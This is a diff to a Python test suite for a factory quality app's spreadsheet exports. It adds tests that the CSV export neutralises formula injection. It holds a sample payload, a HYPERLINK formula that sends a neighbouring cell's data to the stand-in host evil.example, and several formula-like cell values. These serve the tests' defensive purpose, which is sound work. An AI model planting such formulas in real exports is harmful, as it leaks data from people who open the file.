@@ -4,11 +4,14 @@ that look like numbers kept as text, times as dates shown in ISO 8601 with the
 plant's offset); rows beyond a sheet's last row go on to the next sheet; and
 the zip has the shape Excel opens without repair: no entry carries ZIP64
 fields, local headers and central directory agree, and a file past the ZIP64
-limit gets ZIP64 only where the zip specification puts it."""
+limit gets ZIP64 only where the zip specification puts it. And the CSV export
+as LibreOffice opens it: no cell a formula, whatever a defect's name or a code
+starts with."""
 
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import re
 import shutil
@@ -27,15 +30,17 @@ from starlette.testclient import TestClient
 
 from quality.db import Database
 from quality.demo import fill
-from quality.pages.scan_list.export import row_values, words, xlsx_chunks
-from quality.pages.scan_list.queries import all_rows
+from quality.http.exporter import Exporter
+from quality.pages.scan_list.export import csv_values, row_values, words, xlsx_chunks
+from quality.pages.scan_list.queries import all_rows, scan_row
 from quality.pages.scan_list.xlsx import WorkbookStream
 from quality.scan_filter import read_filter
-from quality.scans.store import save_scan
+from quality.scans.store import ScanRow, save_scan
 from quality.settings import Settings
 from tests.conftest import UTC_SHIFTS, database_for, execute, login, run_async
 from tests.test_scan_list import PLANT_SHIFTS, ZONE, all_scans, plant_settings
 from tests.test_scans_store import scan_input
+from tests.test_stations import post_scan, signed_in
 
 # A defect name with what a spreadsheet or an XML writer could get wrong.
 AWKWARD_NAME = 'Zgârietură „adâncă” & <fisură> "x", 50%; ȘȚ'
@@ -46,11 +51,11 @@ def settings(db_url: Any) -> Settings:
     return plant_settings(db_url)
 
 
-def soffice(source: Path, target: str, profile: Path) -> str:
+def soffice(source: Path, target: str, profile: Path, *options: str) -> str:
     """Convert with LibreOffice in its own profile directory (parallel runs
     must not share one), bounded in time; what it printed."""
     assert shutil.which("soffice"), "LibreOffice is missing: run scripts/setup --test"
-    return subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
+    return subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", *options,
                            "--convert-to", target, "--outdir", str(source.parent), str(source)],
                           check=True, timeout=240, capture_output=True, text=True).stdout
 
@@ -145,12 +150,14 @@ async def test_rows_past_a_sheets_last_row_go_on_to_the_next_sheet(db: Database,
                                                                    tmp_path: Path) -> None:
     await fill(db, 100, 2, PLANT_SHIFTS, seed=3)
     scan_filter = read_filter({}, settings).filter
-    everything = [row async for batch in all_rows(db, scan_filter) for row in batch]
+    everything = [scan_row(values) async for batch in all_rows(db, scan_filter) for values in batch]
     english = words("en")
     batches = all_rows(db, scan_filter, batch=30)
     # 40 rows a sheet: the header and 39 scans, as Excel's 1,048,576 would be.
+    exporter = Exporter(1, 1)
     body = b"".join([chunk async for chunk in xlsx_chunks(await anext(batches), batches, ZONE, english,
-                                                          sheet_rows=40)])
+                                                          exporter.format, sheet_rows=40)])
+    exporter.close()
     book = openpyxl.load_workbook(io.BytesIO(body), read_only=True)
     assert book.sheetnames == ["Scans", "Scans (2)", "Scans (3)"]
     data = []
@@ -281,3 +288,100 @@ def test_past_4_gib_only_the_central_directory_and_its_end_have_zip64() -> None:
     assert read_back.sheetnames == [f"Scans ({n})" for n in range(1, len(sheets) + 1)]
     read = [row for sheet in read_back.worksheets for row in list(sheet.iter_rows(values_only=True))[1:]]
     assert [list(row) for row in read] == [[row[0].replace(tzinfo=None), *row[1:]] for row in rows]
+
+
+# -- CSV cells a spreadsheet would run ------------------------------------------
+
+# What an administrator of the defect catalogue could name a defect: a link
+# that sends the cell beside it (an operator code, a piece) to another site.
+EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Details")'
+# A scan with each text column starting the way a formula starts (codes from
+# a plant's own barcode patterns, say).
+FORMULA_LIKE = {"operator_code": "=1+2", "piece_code": "+CP00000001-0001", "order_code": "-CP0000000",
+                "checker1_code": "@SUM(1+1)", "checker2_code": "\t=3+4", "defect_code": "=5+",
+                "defect_name": "\r=6+7"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
+    row = ScanRow(1, "quality", datetime(2026, 5, 4, 10, 0), **FORMULA_LIKE, approved=False, is_rescan=False)
+    english = words("en")
+    values = csv_values(row, ZONE, english)
+    assert values == ["2026-05-04T13:00:00+03:00", "Quality scan",
+                      *("'" + value for value in FORMULA_LIKE.values()), "Rejected", ""]
+    # The same text in XLSX: inline strings, as typed.
+    assert row_values(row, ZONE, english)[2:9] == list(FORMULA_LIKE.values())
+    # Codes and names that start otherwise stay exactly as they are.
+    plain = dataclasses.replace(row, operator_code="OP01", piece_code="CP00012345-0001",
+                                order_code="CP00012345", checker1_code="OC01", checker2_code="OC02",
+                                defect_code="104", defect_name="Zgârietură = 2 mm - adâncă @ colț")
+    assert csv_values(plain, ZONE, english)[2:9] == [
+        "OP01", "CP00012345-0001", "CP00012345", "OC01", "OC02", "104", "Zgârietură = 2 mm - adâncă @ colț"]
+
+
+def libreoffice_cells(path: Path, tmp_path: Path) -> list[list[tuple[str, str | None]]]:
+    """Each cell of a CSV file's first sheet as LibreOffice opens it (UTF-8,
+    comma-separated): the text it shows, and its formula if it made one."""
+    soffice(path, "fods", tmp_path / "profile", "--infilter=CSV:44,34,76,1")
+    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+
+    def shown(element: ElementTree.Element) -> str:
+        parts = [element.text or ""]
+        for child in element:
+            if child.tag == f"{{{text}}}s":
+                parts.append(" " * int(child.get(f"{{{text}}}c", "1")))
+            elif child.tag == f"{{{text}}}tab":
+                parts.append("\t")
+            elif child.tag == f"{{{text}}}line-break":
+                parts.append("\n")
+            else:
+                parts.append(shown(child))
+            parts.append(child.tail or "")
+        return "".join(parts)
+
+    sheet = ElementTree.parse(path.with_suffix(".fods")).getroot().find(f".//{{{table}}}table")
+    assert sheet is not None
+    rows = []
+    for row in sheet.iter(f"{{{table}}}table-row"):
+        cells = []
+        for cell in row.iter(f"{{{table}}}table-cell"):
+            value = ("\n".join(shown(p) for p in cell.iter(f"{{{text}}}p")), cell.get(f"{{{table}}}formula"))
+            cells += [value] * int(cell.get(f"{{{table}}}number-columns-repeated", "1"))
+        rows.append(cells)
+    return rows
+
+
+def test_libreoffice_runs_no_formula_from_the_csv_export(client: TestClient, make_user: Any, db_url: Any,
+                                                        tmp_path: Path) -> None:
+    # The catalogue's administrator names a defect; an operator's scan keeps that name.
+    run_async(execute(db_url, f"UPDATE defect_codes SET name = '{EVIL_NAME}' WHERE code = '104'"))
+    csrf = signed_in(client, make_user)
+    assert post_scan(client, csrf, defect_code="104").status_code == 200
+    assert post_scan(client, csrf, piece_code="CP00012345-0002").status_code == 200
+    run_async(execute(
+        db_url,
+        "INSERT INTO defect_codes (code, name) VALUES ('=5+', '\\r=6+7')",
+        "INSERT INTO scans (station, submission_id, approved, created_at, created_by, operator_code,"
+        " piece_code, order_code, checker1_code, checker2_code, defect_code)"
+        " SELECT 'quality', RANDOM_BYTES(16), FALSE, UTC_TIMESTAMP(6), MIN(id), '=1+2', '+CP00000001-0001',"
+        " '-CP0000000', '@SUM(1+1)', '\\t=3+4', '=5+' FROM users"))
+    make_user("sue", "supervisor")
+    login(client, "sue")
+
+    answer = client.get("/scans/export.csv")
+    assert answer.status_code == 200
+    path = tmp_path / "export.csv"
+    path.write_bytes(answer.content)
+    rows = libreoffice_cells(path, tmp_path)
+
+    assert [len(row) for row in rows] == [11] * 4
+    formulas = [value for row in rows for value, formula in row if formula]
+    assert formulas == []
+    # Shown as typed, after the apostrophe that makes it text (a carriage
+    # return is a line break in a cell).
+    newest, plain, evil = ([value for value, _ in row] for row in rows[1:])  # newest first
+    assert newest[2:9] == ["'" + value.replace("\r", "\n") for value in FORMULA_LIKE.values()]
+    assert evil[3] == "CP00012345-0001" and evil[7:9] == ["104", "'" + EVIL_NAME]
+    # Codes that start otherwise stay as they are. (CSV has no cell types: a
+    # code of digits, 000, becomes a number; the XLSX export keeps it text.)
+    assert plain[2:7] + plain[8:9] == ["OP07", "CP00012345-0002", "CP00012345", "OC12", "OC13", "Approved"]
